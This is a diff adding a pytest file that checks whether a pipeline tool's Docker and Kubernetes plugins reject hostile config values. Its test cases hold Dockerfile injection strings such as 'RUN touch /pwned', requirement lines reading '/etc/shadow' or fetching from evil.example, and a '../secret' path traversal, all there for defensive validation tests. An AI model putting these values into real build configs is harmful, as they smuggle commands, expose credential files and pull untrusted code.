@@ -1,0 +1,175 @@
+"""Built-in plugins under attack: config values that reach generated files, imports named by config,
+declared inputs and outputs, and a plugin that crashes."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from tests.conftest import Workspace
+
+# ---- item 2: values written into Dockerfiles, requirements and manifests
+
+
+def _spec(uses: str, key: str, value: object, extra: str = "") -> str:
+    """A one-stage spec whose `with:` holds `key: value` on line 6 (value as JSON, so YAML reads it back)."""
+    ports = {
+        "docker.build": "    inputs: {model: models/model}\n    outputs: {image: image.json}\n",
+        "k8s.manifests": "    inputs: {image: image.json}\n    outputs: {manifests: manifests}\n",
+    }[uses]
+    return f"version: 1\nstages:\n  s:\n    uses: {uses}\n    with:\n      {key}: {json.dumps(value)}\n{extra}{ports}"
+
+
+def _assert_rejected_at(ws: Workspace, text: str, path: str, needle: str, message: str) -> None:
+    ws.write("pipeline.yaml", text)
+    res = ws.sluice("validate")
+    assert res.code == 2, res.out + res.err
+    line = 6
+    col = text.splitlines()[line - 1].index(needle) + 1
+    pattern = rf"pipeline\.yaml:{line}:{col}: {re.escape(path)}: .*(?:{message})"
+    assert re.search(pattern, res.out + res.err, re.IGNORECASE), res.out + res.err
+    assert "Traceback" not in res.err
+
+
+HOSTILE_IMAGES = ["python:3.11-slim\nRUN touch /pwned", "python:3.11-slim\n", "python:3.11 AS x", "", "Upper:tag", "a@sha256:zz"]
+
+
+@pytest.mark.parametrize("image", HOSTILE_IMAGES)
+def test_docker_build_base_image_must_be_an_image_reference(ws: Workspace, image: str) -> None:
+    _assert_rejected_at(ws, _spec("docker.build", "base_image", image), "stages.s.with.base_image", '"', "image reference|control character")
+
+
+@pytest.mark.parametrize("image", ["python:3.11-slim\nRUN id", "nginx\n"])
+def test_k8s_manifests_image_must_be_an_image_reference(ws: Workspace, image: str) -> None:
+    _assert_rejected_at(ws, _spec("k8s.manifests", "image", image), "stages.s.with.image", '"', "image reference|control character")
+
+
+HOSTILE_REQUIREMENTS = [
+    "-r /etc/shadow",
+    "--index-url http://evil.example/simple",
+    "-e git+https://evil.example/x.git",
+    "file:///etc/passwd",
+    "https://evil.example/x.whl",
+    "pkg @ https://evil.example/x.whl",
+    "./local/path",
+    "numpy>=1.0\n-r /etc/shadow",
+    "numpy>=1.0\n",
+    "numpy --hash=sha256:00",
+    "numpy==1.*.2",
+]
+
+
+@pytest.mark.parametrize("line", HOSTILE_REQUIREMENTS)
+def test_extra_requirements_must_be_pep508_specifiers(ws: Workspace, line: str) -> None:
+    text = _spec("docker.build", "extra_requirements", ["xgboost>=2", line])
+    # the second element: its opening quote is the second `", "` boundary on the line
+    ws.write("pipeline.yaml", text)
+    res = ws.sluice("validate")
+    assert res.code == 2, res.out + res.err
+    col = text.splitlines()[5].index(json.dumps(line)) + 1
+    assert re.search(rf"pipeline\.yaml:6:{col}: stages\.s\.with\.extra_requirements\[1\]: .*(PEP 508|requirement|control character)", res.out), res.out
+    assert "xgboost" not in res.out.split("extra_requirements[1]")[0].splitlines()[-1]
+
+
+@pytest.mark.parametrize("good", ["scikit-learn==1.5.2", "xgboost[scikit-learn]>=2,<3", "tomli; python_version < \"3.11\"", "Requests~=2.31"])
+def test_extra_requirements_accepts_pep508(ws: Workspace, good: str) -> None:
+    ws.write("pipeline.yaml", _spec("docker.build", "extra_requirements", [good]))
+    res = ws.sluice("validate")
+    assert res.code == 0, res.out + res.err
+
+
+@pytest.mark.parametrize(
+    ("labels", "path", "needle"),
+    [
+        ({"a\nRUN touch /pwned": "v"}, "stages.s.with.labels.a\nRUN touch /pwned", '"a'),
+        ({"Com.Example": "v"}, "stages.s.with.labels.Com.Example", '"Com'),
+        ({"com.example key": "v"}, "stages.s.with.labels.com.example key", '"com'),
+        ({"com.example": "line\nRUN touch /pwned"}, "stages.s.with.labels.com.example", '"line'),
+    ],
+)
+def test_docker_build_labels_are_checked(ws: Workspace, labels: dict[str, str], path: str, needle: str) -> None:
+    text = _spec("docker.build", "labels", labels)
+    ws.write("pipeline.yaml", text)
+    res = ws.sluice("validate")
+    assert res.code == 2, res.out + res.err
+    col = text.splitlines()[5].index(needle) + 1
+    assert f"pipeline.yaml:6:{col}: " in res.out, res.out
+    assert "label" in res.out or "control character" in res.out, res.out
+
+
+@pytest.mark.parametrize(
+    ("labels", "needle"),
+    [({"team name": "x"}, '"team'), ({"team": "has space"}, '"has'), ({"team": "x" * 64}, '"xx'), ({"a/b/c": "x"}, '"a/b')],
+)
+def test_k8s_manifests_labels_follow_kubernetes_syntax(ws: Workspace, labels: dict[str, str], needle: str) -> None:
+    text = _spec("k8s.manifests", "labels", labels)
+    ws.write("pipeline.yaml", text)
+    res = ws.sluice("validate")
+    assert res.code == 2, res.out + res.err
+    col = text.splitlines()[5].index(needle) + 1
+    assert f"pipeline.yaml:6:{col}: stages.s.with.labels" in res.out, res.out
+
+
+@pytest.mark.parametrize("key", ["network_mode", "repository", "version"])
+def test_docker_build_other_strings_carry_no_newline(ws: Workspace, key: str) -> None:
+    value = {"network_mode": "host\n", "repository": "acme/model\n", "version": "1.0\n"}[key]
+    _assert_rejected_at(ws, _spec("docker.build", key, value), f"stages.s.with.{key}", '"', "control character|not valid")
+
+
+def test_dockerfile_quotes_labels_and_stays_one_instruction_per_line() -> None:
+    from stages.docker_build import dockerfile
+
+    labels = {"org.example.title": 'My "best" model', "org.example.note": "costs $5 \\ more", "org.example.e": "é"}
+    cfg = {"port": 8000, "wheelhouse": False, "base_image": "registry.example.com:5000/team/python:3.11-slim"}
+    text = dockerfile(cfg, "3.11", labels)
+    label_lines = [line for line in text.splitlines() if line.startswith("LABEL")]
+    assert label_lines == ['LABEL "org.example.e"="é" "org.example.note"="costs \\$5 \\\\ more" "org.example.title"="My \\"best\\" model"']
+    assert "FROM registry.example.com:5000/team/python:3.11-slim AS deps" in text
+    instructions = [line.split()[0] for line in text.splitlines() if line and not line.startswith("#")]
+    assert set(instructions) <= {"FROM", "RUN", "COPY", "ENV", "USER", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT", "CMD", "LABEL"}
+
+
+@pytest.mark.parametrize(
+    ("cfg", "python", "labels"),
+    [
+        ({"base_image": "python:3.11\nRUN id"}, "3.11", {}),
+        ({"base_image": "python:3.11"}, '3.11"\nRUN id #', {}),
+        ({"base_image": "python:3.11"}, "3.11", {"a\nRUN id": "x"}),
+    ],
+)
+def test_dockerfile_writer_refuses_what_validation_would(cfg: dict, python: str, labels: dict) -> None:
+    from engine.plugin import StageFailed
+    from stages.docker_build import dockerfile
+
+    with pytest.raises(StageFailed):
+        dockerfile({"port": 8000, "wheelhouse": False, **cfg}, python, labels)
+
+
+def test_pinned_requirements_refuse_tampered_metadata() -> None:
+    from engine.plugin import StageFailed
+    from stages.docker_build import pinned_requirements
+
+    assert pinned_requirements({"library_versions": {"numpy": "1.26.4"}}, ["xgboost>=2"])[0] == "numpy==1.26.4"
+    with pytest.raises(StageFailed, match="numpy"):
+        pinned_requirements({"library_versions": {"numpy": "1.26.4\n-r /etc/shadow"}}, [])
+    with pytest.raises(StageFailed, match="requirement"):
+        pinned_requirements({"library_versions": {}}, ["-r /etc/shadow"])
+
+
+def test_build_context_refuses_a_model_file_outside_the_model_directory(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from types import SimpleNamespace
+
+    from engine.plugin import StageFailed
+    from stages.docker_build import write_context
+
+    (tmp_path / "secret").write_text("outside")
+    model_dir = tmp_path / "model"
+    model_dir.mkdir()
+    (model_dir / "metadata.json").write_text("{}")
+    meta = SimpleNamespace(model_file="../secret")
+    cfg = {"port": 8000, "wheelhouse": False, "base_image": "python:3.11-slim"}
+    with pytest.raises(StageFailed, match="model file"):
+        write_context(tmp_path / "ctx", model_dir, meta, ["numpy==1.26.4"], cfg, "3.11", {})
+    assert not (tmp_path / "ctx" / "secret").exists()
